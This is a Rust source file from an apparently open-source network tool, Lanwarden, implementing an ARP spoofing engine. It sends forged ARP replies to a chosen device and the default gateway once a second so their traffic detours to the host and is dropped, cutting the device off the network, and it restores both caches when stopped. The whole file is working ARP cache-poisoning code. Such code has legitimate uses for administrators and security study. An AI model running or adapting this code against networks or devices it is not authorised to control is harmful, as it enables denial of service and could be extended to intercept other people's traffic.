// Copyright (c) 2026 Lanwarden Contributors
//
// This Source Code Form is subject to the terms of the Mozilla Public License, v. 2.0.
// If a copy of the MPL was not distributed with this file, You can obtain one at
// https://mozilla.org/MPL/2.0/.

//! The ARP spoofing engine.
//!
//! While a session is live, a single background task feeds both sides of
//! the target/gateway pair forged is-at replies once a second, so every
//! frame between them detours through our interface and dies there (we do
//! not forward). Stopping cancels the task, which heals both caches with
//! corrective replies before it exits.
//!
//! At most one session exists at a time; `start` on a live session is a
//! no-op and `stop` on an idle engine is a no-op.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use pnet::datalink::MacAddr;
use serde::Serialize;
use thiserror::Error;
use tokio::sync::Mutex;
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

use lanwarden_common::models::target::BlockTarget;
use lanwarden_common::utils::mac::{self, InvalidMacError};
use lanwarden_common::{debug, error, info, success, warn};
use lanwarden_protocols::arp;

use crate::directory::DeviceDirectory;
use crate::link::LinkLayer;

/// Cadence of the forged reply pair while blocking.
const SPOOF_INTERVAL: Duration = Duration::from_secs(1);
/// Pause after a failed send before the loop tries again.
const SEND_FAILURE_BACKOFF: Duration = Duration::from_secs(2);
/// Corrective replies sent to each side when a session ends.
const RESTORE_REPEAT: usize = 5;
/// How long `stop` waits for the loop to finish its restore pass.
const STOP_JOIN_TIMEOUT: Duration = Duration::from_secs(5);

#[derive(Debug, Error)]
pub enum StartError {
    #[error(transparent)]
    InvalidMac(#[from] InvalidMacError),
    #[error("device {mac} is not on the network")]
    TargetNotFound { mac: String },
    #[error("could not determine the default gateway")]
    GatewayRoute(#[source] anyhow::Error),
    #[error("gateway {ip} did not answer ARP")]
    GatewayMacUnresolved { ip: Ipv4Addr },
    #[error("subnet scan failed")]
    Scan(#[source] anyhow::Error),
}

/// Whether a spoofing session is currently live.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum BlockStatus {
    Idle,
    Blocking,
}

/// Addresses resolved once at session start and pinned for its lifetime.
///
/// The restore pass uses these even if the devices renumbered mid-session;
/// a fresh session re-resolves from scratch.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct SessionAddrs {
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
    gateway_mac: MacAddr,
    gateway_ip: Ipv4Addr,
}

struct LiveSession {
    cancel: CancellationToken,
    task: JoinHandle<()>,
    addrs: SessionAddrs,
}

pub struct SpoofEngine {
    link: Arc<dyn LinkLayer>,
    directory: DeviceDirectory,
    blocking: AtomicBool,
    session: Mutex<Option<LiveSession>>,
}

impl SpoofEngine {
    pub fn new(link: Arc<dyn LinkLayer>) -> Self {
        Self {
            directory: DeviceDirectory::new(Arc::clone(&link)),
            link,
            blocking: AtomicBool::new(false),
            session: Mutex::new(None),
        }
    }

    pub fn status(&self) -> BlockStatus {
        if self.blocking.load(Ordering::SeqCst) {
            BlockStatus::Blocking
        } else {
            BlockStatus::Idle
        }
    }

    /// Resolves the target and gateway, then launches the spoof loop.
    ///
    /// Calling this while a session is live leaves that session alone.
    pub async fn start(&self, target: &BlockTarget) -> Result<(), StartError> {
        let mut session = self.session.lock().await;
        if session.is_some() {
            debug!(verbosity = 1, "Block already active, ignoring start");
            return Ok(());
        }

        let canonical: String = mac::normalize(&target.mac)?;
        let target_mac: MacAddr = canonical
            .parse()
            .map_err(|_| InvalidMacError(target.mac.clone()))?;

        info!("Locating {canonical} on the network");
        let target_ip: Ipv4Addr = self
            .directory
            .resolve_ip(&canonical)
            .await
            .map_err(StartError::Scan)?
            .ok_or(StartError::TargetNotFound { mac: canonical })?;

        let gateway_ip: Ipv4Addr = self
            .link
            .default_gateway()
            .map_err(StartError::GatewayRoute)?;
        let gateway_mac: MacAddr = self
            .link
            .lookup_ip(gateway_ip)
            .await
            .map_err(StartError::Scan)?
            .ok_or(StartError::GatewayMacUnresolved { ip: gateway_ip })?;

        let addrs = SessionAddrs {
            target_mac,
            target_ip,
            gateway_mac,
            gateway_ip,
        };

        let cancel = CancellationToken::new();
        let task: JoinHandle<()> = tokio::spawn(run_spoof_loop(
            Arc::clone(&self.link),
            addrs,
            cancel.clone(),
        ));

        *session = Some(LiveSession {
            cancel,
            task,
            addrs,
        });
        self.blocking.store(true, Ordering::SeqCst);
        success!("Blocking {} ({})", addrs.target_mac, addrs.target_ip);
        Ok(())
    }

    /// Ends the live session, waiting up to [`STOP_JOIN_TIMEOUT`] for the
    /// loop's restore pass. A timed-out join is logged, not fatal.
    pub async fn stop(&self) {
        let mut session = self.session.lock().await;
        let Some(live) = session.take() else {
            debug!(verbosity = 1, "No block active, ignoring stop");
            return;
        };

        live.cancel.cancel();
        match tokio::time::timeout(STOP_JOIN_TIMEOUT, live.task).await {
            Ok(Ok(())) => {
                success!("Unblocked {} ({})", live.addrs.target_mac, live.addrs.target_ip);
            }
            Ok(Err(join_err)) => {
                error!("Spoof loop panicked: {join_err}");
            }
            Err(_) => {
                warn!("Spoof loop did not stop within {STOP_JOIN_TIMEOUT:?}, detaching");
            }
        }
        self.blocking.store(false, Ordering::SeqCst);
    }
}

async fn run_spoof_loop(link: Arc<dyn LinkLayer>, addrs: SessionAddrs, cancel: CancellationToken) {
    let mut ticker = tokio::time::interval(SPOOF_INTERVAL);
    loop {
        tokio::select! {
            () = cancel.cancelled() => break,
            _ = ticker.tick() => {
                if let Err(err) = send_spoof_pair(link.as_ref(), &addrs).await {
                    warn!("Spoof send failed: {err:#}");
                    tokio::time::sleep(SEND_FAILURE_BACKOFF).await;
                }
            }
        }
    }

    if let Err(err) = send_restore(link.as_ref(), &addrs).await {
        error!("Failed to restore caches for {}: {err:#}", addrs.target_mac);
    } else {
        info!("Restored caches for {} and {}", addrs.target_mac, addrs.gateway_mac);
    }
}

/// One forged reply to each side: the target learns "gateway is at us",
/// the gateway learns "target is at us".
async fn send_spoof_pair(link: &dyn LinkLayer, addrs: &SessionAddrs) -> anyhow::Result<()> {
    let us: MacAddr = link.local_mac();

    let to_target: Vec<u8> = arp::create_reply(
        us,
        addrs.target_mac,
        us,
        addrs.gateway_ip,
        addrs.target_mac,
        addrs.target_ip,
    )?;
    link.send_frame(&to_target).await?;

    let to_gateway: Vec<u8> = arp::create_reply(
        us,
        addrs.gateway_mac,
        us,
        addrs.target_ip,
        addrs.gateway_mac,
        addrs.gateway_ip,
    )?;
    link.send_frame(&to_gateway).await?;

    Ok(())
}

/// Repeated corrective replies carrying the true mappings, so both caches
/// converge even if a few frames are lost.
async fn send_restore(link: &dyn LinkLayer, addrs: &SessionAddrs) -> anyhow::Result<()> {
    let us: MacAddr = link.local_mac();

    for _ in 0..RESTORE_REPEAT {
        let to_target: Vec<u8> = arp::create_reply(
            us,
            addrs.target_mac,
            addrs.gateway_mac,
            addrs.gateway_ip,
            addrs.target_mac,
            addrs.target_ip,
        )?;
        link.send_frame(&to_target).await?;

        let to_gateway: Vec<u8> = arp::create_reply(
            us,
            addrs.gateway_mac,
            addrs.target_mac,
            addrs.target_ip,
            addrs.gateway_mac,
            addrs.gateway_ip,
        )?;
        link.send_frame(&to_gateway).await?;
    }

    Ok(())
}
